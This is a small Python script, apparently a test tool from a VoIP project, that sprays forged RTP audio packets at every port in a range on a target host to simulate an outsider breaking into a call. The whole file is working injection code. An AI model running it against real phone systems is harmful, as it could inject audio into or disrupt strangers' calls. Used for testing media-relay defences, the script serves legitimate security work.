#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""spray.py SRC DST FIRST LAST SECONDS

A stranger who hopes to get into somebody's call: RTP packets (G.711, 20 ms, "spray" at their
end) from SRC to each port FIRST..LAST of DST, over and over, for whole rounds, until SECONDS
are over. Prints the number of rounds.
"""
import errno
import socket
import struct
import sys
import time


def main():
    src, dst = sys.argv[1:3]
    first, last, seconds = map(int, sys.argv[3:6])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((src, 0))
    rounds, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        packet = struct.pack("!BBHII", 0x80, 0, rounds & 0xffff, rounds * 160, 0x5742) + \
            b"\xff" * 155 + b"spray"
        for port in range(first, last + 1):
            try:
                s.sendto(packet, (dst, port))
            except OSError as e:    # the answer to an earlier one: no such port
                if e.errno != errno.ECONNREFUSED:
                    raise
                s.sendto(packet, (dst, port))
        rounds += 1
    print(rounds)


main()
